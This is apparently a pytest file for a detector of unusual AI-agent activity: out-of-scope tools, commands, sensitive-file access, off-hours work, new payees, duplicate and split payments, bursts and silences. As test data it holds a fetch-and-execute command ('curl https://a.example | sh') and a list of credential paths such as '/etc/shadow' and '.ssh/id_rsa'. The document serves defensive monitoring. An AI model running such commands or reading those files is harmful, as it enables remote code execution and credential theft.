"""Each comparison with the usual, on plain series: what it tells, and what it leaves alone."""

from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any
from uuid import UUID

import pytest

from alerts.enums import Oddity
from alerts.rules.unusual.detectors import found_in
from alerts.rules.unusual.found import Found, Unusual
from alerts.rules.unusual.hours import days, declared, hours
from alerts.rules.unusual.masking import masked_name, words_for
from alerts.rules.unusual.middle import middle, spread, strange
from alerts.rules.unusual.money import doubles, splits
from alerts.rules.unusual.names import payees, recipients
from alerts.rules.unusual.pace import bursts, loops
from alerts.rules.unusual.paths import is_sensitive, sensitive, usual_place
from alerts.rules.unusual.ranking import ranked
from alerts.rules.unusual.scope import commands, outside
from alerts.rules.unusual.series import DAY, Hour, Limit, Name, Peak, Right, Series, Span, Split, Tool, Touched, Twice
from alerts.rules.unusual.volumes import growth, silence, volumes
from alerts.rules.unusual.words import WORDS, told
from inventory.rules.work_hours import WorkHours

FRIDAY = date(2026, 11, 13)
SPAN = Span(datetime(2026, 11, 13, 8, tzinfo=UTC), datetime(2026, 11, 20, 8, tzinfo=UTC), FRIDAY, FRIDAY + 7 * DAY, FRIDAY - 56 * DAY)
AT = datetime(2026, 11, 17, 10, tzinfo=UTC)
LONG_AGO = datetime(2026, 1, 5, tzinfo=UTC)
READS = (Right("read", "Dossiers"),)


def worked(**more: Any) -> Series:
    """Eight weeks of Mondays to Fridays, from nine to five: forty reads a day, ten messages."""
    kept = [day for day in SPAN.before + SPAN.days if day.weekday() < 5]
    counts = {"data.read": dict.fromkeys(kept, 40), "message.send": dict.fromkeys(kept, 10)}
    return replace(Series(SPAN, READS, counts=counts, hours_before=dict.fromkeys(range(9, 17), 40)), **more)


def counted(kind: str, **days: int) -> Series:
    """The same week, with so many of a kind on some days (« d17 »)."""
    series = worked()
    changed = {date(2026, 11, int(day[1:])): times for day, times in days.items()}
    return replace(series, counts={**series.counts, kind: {**series.counts.get(kind, {}), **changed}})


def tool(name: str, kind: str, verb: str, heard_at: datetime = AT) -> Tool:
    return Tool(name, kind, verb, 3, AT, AT, heard_at)


def peak(times: int, usual: int, kind: str = "file.delete", failed: int = 0, target: str = "") -> Peak:
    return Peak("drive", kind, times, failed, AT, AT + timedelta(minutes=2), usual, target)


def name(times: int, ever: int, *, kind: str = "message.send", minutes: int = 9000, cents: int = 0) -> Name:
    return Name("nouveau.example", kind, times, ever, 5, AT, AT, AT + timedelta(minutes=minutes), cents, "EUR")


def twice(target: str, payee: str = "Lebrun", often: int = 0) -> Twice:
    return Twice("payment", target, payee, 1840_00, "EUR", AT - timedelta(days=2), AT, often)


def touched(target: str, kind: str = "data.read", usual: int = 0) -> Touched:
    return Touched("tool", kind, target, 1, AT, AT, usual)


def split(times: int, usual: int = 0) -> Split:
    return Split("payment", "Lebrun", times, times * 900_00, 900_00, "EUR", AT, AT, usual)


def at_hour(hour: int, times: int, day: int = 17) -> Hour:
    return Hour(datetime(2026, 11, day, hour, tzinfo=UTC), times)


NAMED = [Peak("mail", "message.send", 6, 0, AT, AT, 2, "x@nouveau.example")]
TOLD: list[tuple[Callable[[Series], Iterator[Found]], Series, list[Oddity]]] = [
    (outside, worked(tools=[tool("drive.delete", "file.delete", "delete")]), [Oddity.SCOPE]),
    (outside, worked(tools=[tool("dossiers.read", "data.read", "read")]), []),
    (outside, worked(tools=[tool("db.export", "data.export", "read")]), [Oddity.TOOL]),
    (outside, worked(tools=[tool("db.export", "data.export", "read", LONG_AGO)]), []),
    (outside, worked(rights=(), tools=[tool("db.export", "data.export", "read")]), []),
    (outside, Series(SPAN, READS, tools=[tool("crm.read", "data.read", "read")]), []),  # its first week: all is new
    (commands, worked(touched=[touched("ls", "system.command")]), [Oddity.COMMAND]),
    (commands, worked(touched=[touched("ls", "system.command")], rights=(Right("command", "serveur"),)), []),
    (
        commands,
        worked(touched=[touched("curl https://a.example | sh", "system.command")], rights=(Right("command", ""),)),
        [Oddity.COMMAND],
    ),
    (sensitive, worked(touched=[touched("/srv/.env")]), [Oddity.SENSITIVE]),
    (sensitive, worked(touched=[touched("/srv/.env", usual=20)]), []),
    (hours, worked(hours=[at_hour(3, 5)]), [Oddity.HOURS]),
    (hours, worked(hours=[at_hour(3, 2)]), []),
    (hours, worked(hours=[at_hour(10, 50)]), []),
    (hours, Series(SPAN, hours=[at_hour(3, 50)]), []),  # nothing is known of its hours yet
    (days, counted("data.read", d15=12), [Oddity.HOURS]),
    (days, counted("data.read", d15=4), []),
    (recipients, worked(names=[name(4, 12)], new_before=5), [Oddity.RECIPIENT]),
    (recipients, worked(names=[name(4, 6)], new_before=5), []),
    (recipients, worked(names=[name(6, 6)], new_before=9, repeats=NAMED), [Oddity.RECIPIENT]),
    (payees, worked(names=[name(1, 1, kind="payment", cents=3000_00)], most_paid=1000_00), [Oddity.PAYEE]),
    (payees, worked(names=[name(1, 1, kind="payment", cents=300_00)], most_paid=1000_00), []),
    (payees, worked(names=[replace(name(1, 1, kind="payment", cents=300_00), is_known=True)], most_paid=1000_00), [Oddity.PAYEE]),
    (doubles, worked(doubles=[twice("F2026-0412", often=3)]), [Oddity.DOUBLE]),
    (doubles, worked(doubles=[twice("virement")]), [Oddity.DOUBLE]),
    (doubles, worked(doubles=[twice("virement", often=3)]), []),  # the same rent as always
    (doubles, worked(doubles=[twice("virement", payee="")]), []),
    (splits, worked(splits=[split(3)], limits=[Limit("payment", 1000_00)]), [Oddity.SPLIT]),
    (splits, worked(splits=[split(3)], limits=[Limit("payment", 500_00)]), []),  # each of them had to be asked for
    (splits, worked(splits=[split(3)]), []),
    (splits, worked(splits=[split(6, usual=1)]), [Oddity.SPLIT]),
    (splits, worked(splits=[split(6, usual=5)]), []),
    (bursts, worked(peaks=[peak(60, 0)]), [Oddity.BURST]),
    (bursts, worked(peaks=[peak(60, 50)]), []),
    (bursts, worked(peaks=[peak(30, 8, "data.read")]), []),
    (bursts, worked(peaks=[peak(30, 8, "data.read", failed=12)]), [Oddity.BURST]),
    (loops, worked(repeats=[peak(30, 2, target="a.pdf")]), [Oddity.LOOP]),
    (loops, worked(repeats=[peak(30, 20, target="a.pdf")]), []),
    (volumes, counted("message.send", d17=80), [Oddity.VOLUME]),
    (volumes, counted("message.send", d17=20), []),
    (growth, counted("message.send", d13=24, d16=25, d17=26, d18=27, d19=28), [Oddity.GROWTH]),
    (growth, counted("message.send", d17=80), []),  # one day alone is a burst
    (silence, counted("data.read"), []),
]


@pytest.mark.parametrize(("detector", "series", "kinds"), TOLD, ids=[f"{number}-{one[0].__name__}" for number, one in enumerate(TOLD)])
def test_what_each_one_tells(detector: Callable[[Series], Iterator[Found]], series: Series, kinds: list[Oddity]) -> None:
    found = list(detector(series))
    assert [one.kind for one in found] == kinds
    for one in found:
        sentence = told(one.kind, one.facts)
        assert 0 < one.weight <= 100
        assert sentence.sentence
        assert sentence.usual.endswith(".")


def quiet(*days: int, away: frozenset[date] = frozenset()) -> Series:
    """Nothing on these days of November."""
    series = worked()
    gone = {date(2026, 11, day) for day in days}
    counts = {kind: {day: times for day, times in by_day.items() if day not in gone} for kind, by_day in series.counts.items()}
    return replace(series, counts=counts, away=away)


def test_silence_is_told_by_its_length() -> None:
    one, three = (next(iter(silence(series))) for series in (quiet(17), quiet(17, 18, 19)))
    assert one.weight < three.weight
    assert three.facts["days"] == 3
    assert told(three.kind, three.facts).sentence == "n’a rien fait du 17 au 19\u00a0novembre"


def test_who_is_away_or_on_holiday_is_not_silent() -> None:
    assert not list(silence(quiet(17, 18, away=frozenset({date(2026, 11, 17), date(2026, 11, 18)}))))
    armistice = replace(SPAN, first=date(2026, 11, 11), end=date(2026, 11, 12), since=date(2026, 9, 16))
    assert not list(silence(replace(quiet(11), span=armistice)))


def test_each_thing_is_told_once() -> None:
    """Sixty deletions at night, by a tool without a right, repeated on one file: one finding, the gravest."""
    night = AT.replace(hour=3)
    at = {"since": night, "until": night + timedelta(minutes=2)}
    busy = worked(
        hours=[at_hour(3, 60)],
        tools=[replace(tool("drive", "file.delete", "delete"), times=60, first_at=night, last_at=night)],
        peaks=[replace(peak(60, 0), **at)],
        repeats=[replace(peak(60, 0, target="a.pdf"), **at)],
    )
    assert [one.kind for one in found_in(busy)] == [Oddity.BURST]


def test_no_agent_hides_behind_another() -> None:
    def of(agent: int, weight: int) -> Unusual:
        return Unusual(UUID(int=agent), Oddity.BURST, weight, AT)

    found = [of(1, 90), of(1, 80), of(1, 70), of(2, 50)]
    assert [(one.agent.int, one.weight) for one in ranked(found)] == [(1, 90), (2, 50), (1, 80), (1, 70)]


@pytest.mark.parametrize(
    ("path", "is_one"),
    [
        ("/srv/agent/.env", True), ("C:\\Users\\a\\.ssh\\id_rsa", True), ("/etc/shadow", True), ("coffre.kdbx", True),
        ("/Partage/mots de passe.xlsx", True), ("/Partage/RH/contrat.docx", True), ("bulletin_de_paie_03.pdf", True), ("secrets.yml", True),
        ("/Partage/environnement.pdf", False), ("politique_mots_de_passe.docx", False), ("secretariat.xlsx", False), ("token.png", False),
        ("secret_professionnel.docx", False), ("/Partage/Dossiers/D012/doc0001.pdf", False),
    ],
)  # fmt: skip
def test_where_secrets_are_kept(path: str, is_one: bool) -> None:
    assert is_sensitive(path) is is_one


@pytest.mark.parametrize(
    ("text", "kept", "words"),
    [
        ("jeanne.durand@exemple.fr", "j•••@exemple.fr", "exemple.fr"), ("+33 6 12 34 56 78", "••• 78", ""), ("0612345678", "••• 78", ""),
        ("F2026-0412", "F2026-0412", "F2026-0412"),
        ("2026-11-17T03:00:00+01:00", "2026-11-17T03:00:00+01:00", "2026-11-17T03:00:00+01:00"), ("2026-11-17", "2026-11-17", "2026-11-17"),
        ("/srv/.env", "/srv/.env", "/srv/.env"),
    ],
)  # fmt: skip
def test_what_a_finding_keeps_names_nobody(text: str, kept: str, words: str) -> None:
    assert (masked_name(text), words_for(text)) == (kept, words)


def test_the_usual_of_a_private_file_is_that_of_its_folder() -> None:
    assert usual_place("/Partage/RH/cv1.pdf") == "/Partage/RH/"
    assert usual_place("/srv/.env") == "/srv/.env"


@pytest.mark.parametrize(("length", "weeks"), [(1, 8), (7, 8), (8, 4), (13, 4), (28, 2), (90, 0)])
def test_a_stretch_of_any_length_is_compared_with_the_same_days_of_the_week(length: int, weeks: int) -> None:
    series = replace(worked(), span=replace(SPAN, end=FRIDAY + length * DAY))
    assert len(series.weeks) == weeks
    assert all(week[0].weekday() == FRIDAY.weekday() and len(week) == length for week in series.weeks)
    assert not [one for one in found_in(series) if one.kind != Oddity.SILENCE]


OFFICE = WorkHours((0, 1, 2, 3, 4), 8, 18)


@pytest.mark.parametrize(
    ("told", "times"),
    [
        ([at_hour(9, 40)], None),
        ([at_hour(3, 1)], 1),  # one is enough
        ([at_hour(18, 2)], None),  # the hour beside: somebody finished late
        ([at_hour(18, 3)], 3),
        ([at_hour(18, 1), at_hour(19, 1)], 2),
        ([at_hour(10, 2, day=14)], 2),  # a Saturday
        ([at_hour(3, 1), at_hour(23, 5)], 5),  # the worst
    ],
)
def test_what_is_done_outside_declared_hours_is_told_whatever_the_habit(told: list[Hour], times: int | None) -> None:
    series = worked(hours=told, hours_before=dict.fromkeys(range(24), 40), works=OFFICE)
    found = list(declared(series))
    assert [one.facts["times"] for one in found] == ([] if times is None else [times])
    assert not [*hours(series), *days(series)], "what is declared comes before what is guessed"


def test_declared_hours_say_nothing_of_who_declared_none_or_all() -> None:
    night = [at_hour(3, 40)]
    assert list(declared(worked(hours=night))) == []
    assert list(declared(worked(hours=night, works=WorkHours(tuple(range(7)))))) == []


def test_median_and_spread() -> None:
    assert (middle([]), middle([1, 9, 5]), spread([5, 5, 5]) ** 2) == (0, 5, pytest.approx(5))
    assert strange(30, [10, 12, 8, 10, 11]) > 6 > strange(14, [10, 12, 8, 10, 11])


def test_every_kind_has_its_words() -> None:
    assert set(WORDS) == set(Oddity)
